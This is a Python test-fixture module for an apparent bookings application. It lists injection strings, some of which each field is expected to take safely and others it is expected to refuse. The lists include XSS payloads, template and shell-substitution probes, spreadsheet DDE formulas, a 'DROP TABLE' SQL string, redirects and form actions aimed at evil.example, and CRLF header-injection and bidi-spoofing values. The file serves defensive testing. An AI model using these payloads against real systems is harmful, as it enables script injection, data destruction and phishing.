"""Texts that mean something to whoever forgets to treat them as texts (R74)."""

from typing import Final

# Each is one line, so that every field may hold it.
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(document.domain)//",
    "data:text/html,<script>alert(1)</script>",
    '"><b onmouseover=alert(1)>x</b>',
    "' onfocus=alert(1) autofocus='",
    '" style="position:fixed;inset:0;background:red',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=q>",
    "<!--><script>alert(1)</script-->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
    "&NewLine;&Tab;&colon;",
    "{{7*7}} {{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %> {% debug %}",
    "%s %(x)s {0} {0.__class__} %n",
    "$(id) `id` ; id | id && id",
    "=1+1",
    "+SUM(1;1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "BEGIN:VEVENT END:VEVENT;X-EVIL=1:x\\nX-EVIL:1,;\\,",
    "Subject: x Bcc: evil@example.com =?utf-8?q?=0D=0ABcc=3A_evil=40example=2Ecom?=",
    "a\u200bb\u200d\ufeffc \u00ad zero\u2060width",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea \u0e01\u0e34 \U00010348",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "'; DROP TABLE bookings.booking; --",
)
# What no field takes: it would end a line in a header, a file or a log, or make a text read as another one.
REFUSED: Final = (
    "x\r\nBcc: evil@example.com",
    "x\nX-EVIL:1",
    "x\rX-EVIL:1",
    "x\x0bX-EVIL:1",
    "x\x0cX-EVIL:1",
    "x\x1b[2J\x1b]0;evil\x07",
    "x\x85X-EVIL:1",
    "x\u2028X-EVIL:1",
    "x\u2029X-EVIL:1",
    "abc\u202egnp.exe",
    "\u2066abc\u2069",
    "\u202aabc\u202c",
    "x\x00y",
    "x\x08\x08\x08y",
)
HARMLESS: Final = "A quiet name"
